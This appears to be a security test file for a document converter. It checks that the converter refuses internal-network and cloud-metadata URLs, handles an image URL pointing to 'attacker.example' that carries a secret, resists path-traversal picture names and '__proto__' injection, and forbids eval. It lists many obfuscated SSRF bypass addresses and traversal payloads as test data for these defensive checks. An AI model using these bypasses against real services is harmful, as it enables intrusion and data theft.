/**
 * What other converters have fallen for at their inputs: URLs, file names and arguments. What documents themselves
 * tried is in collection/advisories.ts; docs/security.md has the whole list.
 */
import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { Client } from '@modelcontextprotocol/client'
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio'
import { createDocumentFetcher } from '../../src/net/fetch-document.ts'
import { createNetwork } from '../../src/net/network.ts'
import { createTestApp, json } from '../http/support/app.ts'
import { call, createMcpApp, legacy, modern } from '../mcp/support/messages.ts'
import { docx, p } from '../support/docx.ts'
import { PNG } from '../support/docx-picture.ts'
import { COMMAND, makeFolder, removeFolder, runCli } from '../support/run-cli.ts'

const pictures = (...targets: string[]): string =>
  targets
    .map(
      (_, index) =>
        `<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="cat"/><pic:pic><pic:blipFill><a:blip r:embed="i${index}"/></pic:blipFill></pic:pic></wp:inline></w:drawing></w:r>`,
    )
    .join('')

const withPictures = (targets: readonly string[], files: Record<string, Uint8Array> = {}) =>
  docx({
    body: p(pictures(...targets)),
    relationships: Object.fromEntries(
      targets.map((target, index) => [`i${index}`, ['image', target] as const]),
    ),
    files,
  })

const root = fileURLToPath(new URL('../../../', import.meta.url))

test('every class on the page of advisories has tests', () => {
  const page = readFileSync(join(root, 'docs/security.md'), 'utf8')
  const [, table = ''] =
    /## Advisories of the field\n[\s\S]*?\|---.*\n((?:\|.*\n)+)/.exec(page) ?? []
  const rows = table.trim().split('\n')
  assert.ok(rows.length >= 12)
  for (const row of rows) {
    const files = Array.from(
      row
        .split('|')
        .at(-2)!
        .matchAll(/`([^`]+)`/g),
      match => match[1]!,
    )
    assert.ok(files.length > 0, row)
    for (const file of files) assert.ok(existsSync(join(root, file)), file)
  }
})

describe('addresses of machines that only the service can reach', () => {
  /** Cloud metadata, and this machine, as other services have let them through. */
  const ADDRESSES = `
http://169.254.169.254/latest/meta-data/ HTTP://169.254.169.254/ hTTps://169.254.169.254/
http://169.254.169.254./ http://2852039166/ http://0xa9fea9fe/ http://0251.0376.0251.0376/
http://169.254.43518/ http://169.16689662/ http://%31%36%39.254.169.254/ http://169。254。169。254/
http://[::ffff:169.254.169.254]/ http://[::ffff:a9fe:a9fe]/ http://[::ffff:0:a9fe:a9fe]/
http://[64:ff9b::a9fe:a9fe]/ http://[64:ff9b:1::a9fe:a9fe]/ http://[2002:a9fe:a9fe::]/
http://[2001:0:a9fe:a9fe::]/ http://[::a9fe:a9fe]/ http://[fd00:ec2::254]/ http://[fd20:ce::254]/
http://[fe80::1]/ http://[0:0:0:0:0:0:0:1]/ http://[::]/ http://100.100.100.200/ http://192.0.0.192/
http://168.63.129.16/ http://metadata.google.internal/ http://metadata.google.internal./
http://METADATA.Google.Internal/ http://localhost/ http://foo.localhost./ http://0/ http://127.1/
http:169.254.169.254 http:\\\\169.254.169.254\\x`
    .trim()
    .split(/\s+/)

  /** Counts what is dialled or looked up, and lets nothing out. */
  function createWatchedNetwork() {
    const watched = { touched: 0 }
    const touch = () => {
      watched.touched++
      throw new Error('something was dialled')
    }
    const network = createNetwork({ allowed: [], lookup: async () => touch() })
    const watching = { ...network, createAgent: touch }
    return {
      watched,
      fetchDocument: createDocumentFetcher({
        network: watching,
        timeoutMs: 1000,
        userAgent: 'test',
      }),
    }
  }

  test('are refused by the API, without a look-up or a connection', async () => {
    const { watched, fetchDocument } = createWatchedNetwork()
    const { ask } = createTestApp({ fetchDocument })
    for (const [index, url] of ADDRESSES.entries()) {
      const from = `198.51.100.${index}`
      const answer = await ask({ method: 'POST', path: '/api/v1/convert', from, ...json({ url }) })
      assert.deepEqual([answer.status, answer.json.code], [502, 'fetch_failed'], url)
      assert.match(answer.json.detail, /not on the public internet/, url)
      assert.doesNotMatch(answer.text, /169\.254|127\.0/, url)
    }
    assert.equal(watched.touched, 0)
  })

  test('are refused to agents, in both eras of the protocol', async () => {
    const { watched, fetchDocument } = createWatchedNetwork()
    const { send } = createMcpApp({ fetchDocument })
    for (const url of ADDRESSES) {
      for (const say of [legacy, modern]) {
        const { json: body } = await send(say('tools/call', call('convert_document', { url })))
        assert.equal(body.result.isError, true, url)
        assert.match(body.result.content[0].text, /fetch_failed.*not on the public internet/, url)
      }
    }
    assert.equal(watched.touched, 0)
  })

  test('are not addresses at all with a zone, another scheme or nonsense for a host', async () => {
    const { watched, fetchDocument } = createWatchedNetwork()
    const { ask } = createTestApp({ fetchDocument })
    for (const url of [
      'http://[fe80::1%25eth0]/',
      'http://[::1%25lo]/',
      'http://169.254.169.254.169/',
      'FILE:///etc/passwd',
      'gopher://127.0.0.1/',
      'data:text/csv,a',
      'jar:http://127.0.0.1!/',
      '//169.254.169.254/',
      'http://',
    ]) {
      const answer = await ask({ method: 'POST', path: '/api/v1/convert', ...json({ url }) })
      assert.deepEqual([answer.status, answer.json.code], [400, 'invalid_request'], url)
    }
    assert.equal(watched.touched, 0)
  })

  test('are refused where the list of what is allowed is there and empty', async () => {
    for (const OUTBOUND_ALLOW of ['', ' ', '\t\n']) {
      const { ask } = createTestApp({}, { OUTBOUND_ALLOW })
      const request = json({ url: 'http://169.254.169.254/' })
      const answer = await ask({ method: 'POST', path: '/api/v1/convert', ...request })
      assert.match(answer.json.detail, /not on the public internet/)
    }
    for (const OUTBOUND_ALLOW of [',', '*', '/0', '127.0.0.1/', '0x7f.1', 'all']) {
      assert.throws(() => createTestApp({}, { OUTBOUND_ALLOW }), /OUTBOUND_ALLOW must be/)
    }
  })
})

describe('a picture that carries words away in its address', () => {
  const there = 'https://attacker.example/?q=secret'
  const document = withPictures([there])
  const base64 = Buffer.from(document).toString('base64')

  test('is a link over MCP, for it would be loaded unasked', async () => {
    const { send } = createMcpApp()
    const ask = async (given: object) => {
      const { json: body } = await send(legacy('tools/call', call('convert_document', given)))
      const { content, structuredContent } = body.result
      assert.equal(structuredContent.markdown, content[0].text)
      return content[0].text
    }
    assert.equal(await ask({ base64 }), `[cat](${there})\n`)
    assert.equal(await ask({ base64, max_tokens: 500 }), `[cat](${there})\n`)
    assert.equal(await ask({ base64, images: 'inline' }), `[cat](${there})\n`)
    assert.equal(await ask({ base64, images: 'omit' }), 'cat\n')
    assert.equal(await ask({ base64, remote_images: 'keep' }), `![cat](${there})\n`)
    const { json: list } = await send(modern('tools/list'))
    const [tool] = list.result.tools
    assert.equal(tool.inputSchema.properties.remote_images.default, 'link')
  })

  test('is what its reader wants over HTTP and in the command', async () => {
    const { ask } = createTestApp()
    const request = { method: 'POST', path: '/api/v1/convert' }
    const kept = await ask({ ...request, ...json({ base64 }) })
    assert.equal(kept.json.markdown, `![cat](${there})\n`)
    const linked = await ask({ ...request, ...json({ base64, remote_images: 'link' }) })
    assert.equal(linked.json.markdown, `[cat](${there})\n`)
    const wrong = await ask({ ...request, ...json({ base64, remote_images: 'omit' }) })
    assert.deepEqual([wrong.status, wrong.json.code], [400, 'invalid_request'])
    assert.match(wrong.json.detail, /`remote_images` must be one of keep, link/)
    const run = await runCli(['-', '--filename', 'a.docx', '--remote-images', 'link'], {
      cwd: '.',
      input: document,
    })
    assert.equal(run.stdout, `[cat](${there})\n`)
  })
})

describe('names of pictures that lead out of the folder they are written to', () => {
  const NAMES = [
    '../../../escaped.png',
    '..\\..\\other.png',
    'media/..%2f..%2fescaped.png',
    'media/....//escaped.png',
    'media/escaped.html',
    'media/.bashrc',
    'media/CON.png',
    'media/es caped.png',
    'media/es-caped.png',
  ]
  const parts = NAMES.map(name => join('/word', name.replaceAll('\\', '/')).slice(1))
  const files = Object.fromEntries(
    parts.map((part, index) => [part, new Uint8Array([...PNG, index])]),
  )
  const home = makeFolder({
    'in/evil.docx': withPictures(NAMES, files),
    'one/a.txt': '',
    'two/a.txt': '',
  })
  after(() => removeFolder(home))

  /** Every link in the markdown is a picture in the folder next to it, and nothing else has been written. */
  function check(run: string, folder: string): void {
    const there = join(home, run)
    const markdown = readFileSync(join(there, 'evil.md'), 'utf8')
    const links = [...markdown.matchAll(/\]\(([^)]+)\)/g)].map(([, link]) => link!)
    const contents = links.map(link => readFileSync(join(there, link)).toString('hex'))
    assert.equal(new Set(contents).size, NAMES.length)
    for (const link of links)
      assert.match(link, new RegExp(`^${folder}/(?!con\\.)[\\w-][\\w.-]*\\.png$`, 'i'))
    assert.deepEqual(readdirSync(there).sort(), ['a.txt', folder, 'evil.md'].sort())
    assert.equal(readdirSync(join(there, folder)).length, NAMES.length)
    assert.deepEqual(readdirSync(home).sort(), ['in', 'one', 'two'])
  }

  test('are plain names below --media', async () => {
    const words = ['in/evil.docx', '-o', 'one/evil.md', '--media', 'one/evil-media']
    const run = await runCli(words, { cwd: home })
    assert.equal(run.exitCode, 0, run.stderr)
    check('one', 'evil-media')
  })

  test('are plain names beside output_path', async () => {
    const client = new Client({ name: 'test', version: '1.0.0' })
    const args = [COMMAND, 'mcp', join(home, 'in'), '--write', join(home, 'two')]
    const env = { WORKERS: '1' }
    await client.connect(new StdioClientTransport({ command: process.execPath, args, env }))
    try {
      const given = { path: 'evil.docx', output_path: 'evil.md' }
      const answer = await client.callTool({ name: 'convert_document', arguments: given })
      assert.ok(!answer.isError, JSON.stringify(answer.content))
    } finally {
      await client.close()
    }
    check('two', 'evil-images')
  })
})

describe('data that becomes more than data', () => {
  test('the names of objects in a request change nothing', async () => {
    const { ask } = createTestApp()
    const options = '{"images":"omit","filename":"a.csv","remote_images":"wrong"}'
    for (const name of ['__proto__', 'constructor', 'prototype']) {
      const body = `{"base64":"YSxiCjEsMgo=","filename":"b.csv","${name}":${options}}`
      const headers = { 'content-type': 'application/json' }
      const answer = await ask({ method: 'POST', path: '/api/v1/convert', headers, body })
      assert.deepEqual([answer.status, answer.json.filename], [200, 'b.csv'])
    }
    assert.equal(({} as { images?: unknown }).images, undefined)
  })

  test('nothing in the code makes a program or an object with methods out of bytes', () => {
    const forbidden =
      /\beval\(|\bnew Function\b|\bcachedData\b|\bdeserialize\(|serialization:|\brequire\((?!')/
    for (const folder of ['src', 'site/client']) {
      for (const name of readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })) {
        if (!name.endsWith('.ts') || name.endsWith('.test.ts')) continue
        // It loads the files of the command itself, and what V8 has compiled of them.
        if (name === 'cli/script-loader.ts') continue
        const found = forbidden.exec(readFileSync(join(root, folder, name), 'utf8'))
        assert.equal(found, null, `${folder}/${name}: ${found}`)
      }
    }
  })
})
